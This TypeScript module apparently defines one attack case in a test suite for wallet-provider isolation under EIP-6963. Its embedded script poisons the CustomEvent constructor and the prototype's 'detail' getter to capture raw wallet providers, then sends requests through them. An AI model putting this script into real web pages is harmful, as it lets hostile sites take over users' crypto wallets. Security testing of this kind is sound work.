import type { Attack } from '../Attack.ts';

/** The announcement is made of a CustomEvent, and the page makes those. */
export const attack: Attack = {
  entry: 'eip6963:announceProvider',
  mechanism: 'CustomEvent and its detail poisoned to leak the raw provider',
  discovers: false,
  script: `
const found = new Set();
const Real = CustomEvent;
window.CustomEvent = class extends Real { constructor(type, init) { super(type, init); if (init?.detail?.provider) found.add(init.detail.provider); } };
const { get } = Object.getOwnPropertyDescriptor(Real.prototype, 'detail');
Object.defineProperty(Real.prototype, 'detail', { configurable: true, get() { const detail = get.call(this); if (detail?.provider) found.add(detail.provider); return detail; } });
addEventListener('eip6963:announceProvider', (event) => found.add(event.detail.provider));
dispatchEvent(new Event('eip6963:requestProvider'));
await kit.ready();
for (const provider of found) provider.request(kit.send()).catch(() => undefined);
`,
};
